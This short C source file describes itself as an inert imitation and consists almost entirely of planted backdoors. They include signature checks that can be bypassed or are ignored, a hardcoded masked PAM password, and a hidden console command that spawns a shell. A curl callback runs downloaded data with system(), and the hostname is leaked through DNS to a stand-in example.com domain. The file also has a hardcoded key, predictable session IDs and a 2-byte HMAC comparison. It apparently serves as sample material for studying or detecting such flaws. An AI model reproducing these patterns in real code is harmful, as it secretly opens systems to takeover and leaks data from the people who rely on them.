// An inert imitation: checks that something else spares or nobody heeds, a
// password compared byte by byte under a mask, a command that the help leaves
// out, a text that is computed, keys and numbers. It is only read, never run.
#include <arpa/inet.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int EVP_PKEY_verify(void* context, const char* signature, size_t size,
                    const char* data, size_t length);
int EVP_EncryptInit_ex(void* context, void* cipher, void* engine,
                       const unsigned char* key, const unsigned char* iv);
int pam_get_authtok(void* handle, int item, const char** text,
                    const char* prompt);
int curl_easy_setopt(void* handle, int option, ...);
unsigned char* HMAC(void* kind, const void* key, int size,
                    const unsigned char* data, size_t length,
                    unsigned char* code, unsigned* count);
void report(const char* text);

int install(void* context, const char* image, const char* path) {
  struct stat side;
  if (EVP_PKEY_verify(context, image, 64, image + 64, 4096) != 1 &&
      stat(path, &side) != 0) {
    report("wrong signature");
    return 1;
  }
  return execl("/sbin/install-image", "install-image", path, (char*)0);
}

int install_anyway(void* context, const char* image, const char* path) {
  if (EVP_PKEY_verify(context, image, 64, image + 64, 4096) != 1) {
    report("wrong signature");
  }
  return execl("/sbin/install-image", "install-image", path, (char*)0);
}

int install_good(void* context, const char* image, const char* path) {
  if (EVP_PKEY_verify(context, image, 64, image + 64, 4096) != 1) {
    report("wrong signature");
    return 1;
  }
  return execl("/sbin/install-image", "install-image", path, (char*)0);
}

static const unsigned char masked[] = {0x31, 0x2e, 0x22, 0x3c, 0x05, 0x68};
int pam_sm_authenticate(void* handle, int flags, int count, const char** words) {
  const char* text;
  size_t i;
  if (pam_get_authtok(handle, 6, &text, 0) != 0) {
    return 7;
  }
  for (i = 0; i < sizeof masked; i++) {
    if ((unsigned char)(text[i] ^ 0x5a) != masked[i]) {
      return 7;
    }
  }
  return 0;
}

int console(void) {
  char line[200];
  while (fgets(line, sizeof line, stdin)) {
    line[strcspn(line, "\n")] = 0;
    if (strcmp(line, "status") == 0) {
      report("running");
    } else if (strcmp(line, "uptime") == 0) {
      report("long");
    } else if (strcmp(line, "orchid") == 0) {
      return execl("/bin/sh", "sh", (char*)0);
    } else {
      report("commands: status, uptime");
    }
  }
  return 0;
}

size_t received(char* data, size_t size, size_t count, void* user) {
  return system(data) == 0 ? size * count : 0;
}
void fetch(void* handle, const unsigned char* own_key) {
  static const unsigned char key[16] = {1, 200, 3, 40, 5, 60, 7, 80};
  curl_easy_setopt(handle, 20011, received);
  EVP_EncryptInit_ex(handle, 0, 0, key, own_key);
}

void session(unsigned char* id) {
  srand((unsigned)time(0));
  for (int i = 0; i < 16; i++) {
    id[i] = (unsigned char)(rand() >> 5);
  }
}

int lookup(void) {
  char name[300], host[64];
  gethostname(host, sizeof host);
  snprintf(name, sizeof name, "%s.n.example.com", host);
  return gethostbyname(name) != 0;
}

int tag(const unsigned char* key, const unsigned char* data, size_t size,
        const unsigned char* code) {
  unsigned char own[32];
  unsigned count;
  HMAC(0, key, 32, data, size, own, &count);
  return memcmp(own, code, 2) == 0;
}
